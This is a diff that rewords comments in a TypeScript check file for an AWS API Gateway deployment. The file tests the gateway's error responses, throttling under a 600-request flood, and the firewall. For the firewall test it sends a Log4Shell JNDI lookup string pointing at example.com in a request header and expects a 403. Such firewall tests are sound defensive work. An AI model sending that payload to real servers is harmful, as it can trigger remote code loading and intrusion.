@@ -1,4 +1,4 @@
-/** Checks the answers that API Gateway and the firewall give by themselves, where they can be seen without harm. */
+/** Checks the answers of API Gateway itself and of the firewall, without doing harm. */
 import { GetExportCommand, GetGatewayResponsesCommand } from '@aws-sdk/client-api-gateway';
 import * as z from 'zod';
 import { gatewayAnswers, refusalBody } from '../../../lib/api/gatewayAnswers.ts';
@@ -7,7 +7,7 @@ import type { Answer } from '../api.ts';
 import type { After } from '../context.ts';
 import { isRefusal, shown } from './answerChecks.ts';
 
-/** The stage of the API, which answers from a copy of the API's definition. */
+/** The API's stage, which answers from a copy of the API's definition. */
 const stageName = 'api';
 
 const responses = z.record(
@@ -21,7 +21,7 @@ type Responses = z.output<typeof responses>;
 
 const exported = z.object({ 'x-amazon-apigateway-gateway-responses': responses.optional() });
 
-/** Says how the answers of an API differ from those of this release, each by its type. */
+/** Lists how an API's answers differ from this release's. */
 export function wrongAnswers(found: Responses): readonly string[] {
   return gatewayAnswers.flatMap((answer) => {
     const { responseType } = answer.type;
@@ -39,7 +39,7 @@ export function wrongAnswers(found: Responses): readonly string[] {
   });
 }
 
-/** Reads the gateway responses of the stage; where the export leaves them out, those of the API. */
+/** Reads the stage's gateway responses, or the API's if the export omits them. */
 async function readAnswers({ clients: { apiGateway }, resources }: After): Promise<Responses> {
   const restApiId = resources.find(
     ({ type, logicalId }) => type === 'AWS::ApiGateway::RestApi' && /^Api[0-9A-F]{8}$/.test(logicalId),
@@ -74,7 +74,7 @@ async function checkGatewayAnswers(after: After): Promise<string> {
   return `the gateway has its ${gatewayAnswers.length} own answers, those of 429, 502 and 504 among them`;
 }
 
-/** A header that "Baseline rule groups" (AWS WAF Developer Guide) knows as Log4JRCE_HEADER. */
+/** AWS WAF's "Baseline rule groups" block this header as Log4JRCE_HEADER (AWS WAF Developer Guide). */
 const attack = { 'x-verify': '${jndi:ldap://example.com/}' };
 
 async function checkFirewall({ settings, api }: After): Promise<string> {
@@ -87,10 +87,10 @@ async function checkFirewall({ settings, api }: After): Promise<string> {
   return 'a known attack in a header was refused with 403 and a code';
 }
 
-/** Six times the requests that the management API takes at one instant and in the second after. */
+/** Six times the requests that the management API accepts within a second. */
 const flood = 600;
 
-/** Judges the answers to more requests at once than an API takes. @returns how many were refused */
+/** Judges the answers to more requests than an API accepts at once. @returns how many were refused */
 export function judgeFlood(answers: readonly Answer[]): number {
   const refused = answers.filter(({ status }) => status === 429);
   expectThat(refused.length > 0, `None of ${answers.length} requests at once was refused.`);
@@ -127,7 +127,7 @@ export const gatewayChecks: readonly Check<After>[] = [
   },
 ];
 
-/** Runs alone: operators share the throttle of the management API. */
+/** Runs alone, because operators share the management API's limit. */
 export const throttledCheck: Check<After> = {
   name: 'throttled',
   shows: 'more requests at once than the management API takes are refused with 429 and Retry-After',
